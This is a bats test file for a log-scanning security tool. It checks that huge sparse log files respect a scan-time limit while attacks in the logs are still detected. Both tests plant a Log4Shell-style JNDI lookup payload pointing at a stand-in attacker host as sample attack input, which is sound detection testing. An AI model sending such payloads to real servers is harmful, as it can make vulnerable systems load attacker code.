#!/usr/bin/env bats
# dos.bats - denial of service: inputs built to cost time, memory or disk
# out of proportion to their size.  No test measures time: each asserts an
# outcome (a warning, a finding, a peak RSS) under `timeout`, so a hang
# fails instead of blocking the suite.

load helpers

setup_file() {
    export D="$BATS_FILE_TMPDIR/dos"
    mkdir -p "$D"
}

@test "dos: a sparse 1 TB log obeys --max-scantime, other files still reported" {
    mkdir -p "$D/sparse"
    truncate -s 1T "$D/sparse/huge.log"
    printf 'GET /?q=${jndi:ldap://x.evil.example/a} HTTP/1.1\n' > "$D/sparse/attack.log"
    run timeout 60 "$KENSA" logs --json --no-summary --threads 1 \
        --max-scantime 2000 "$D/sparse/huge.log" "$D/sparse/attack.log"
    rm -f "$D/sparse/huge.log"
    [ "$status" -eq 1 ]
    echo "$output" | jq_any '.event.kind=="event" and (.kensa.path|endswith("huge.log"))
        and (.error.message|test("max-scantime.*rest of file not scanned"))'
    echo "$output" | jq_alerts '.kensa.verdict=="attack" and (.kensa.path|endswith("attack.log"))'
}

@test "dos: a payload followed by 1 TB without a newline obeys --max-scantime" {
    mkdir -p "$D/sparse2"
    printf 'GET /?q=${jndi:ldap://x.evil.example/a}' > "$D/sparse2/tail.log"
    truncate -s 1T "$D/sparse2/tail.log"
    run timeout 60 "$KENSA" logs --json --no-summary --threads 1 \
        --max-scantime 2000 "$D/sparse2/tail.log"
    rm -f "$D/sparse2/tail.log"
    [ "$status" -eq 1 ]
    echo "$output" | jq_alerts '.kensa.verdict=="attack" and .kensa.line==1'
    echo "$output" | jq_any '.event.kind=="event" and (.error.message|test("max-scantime"))'
}
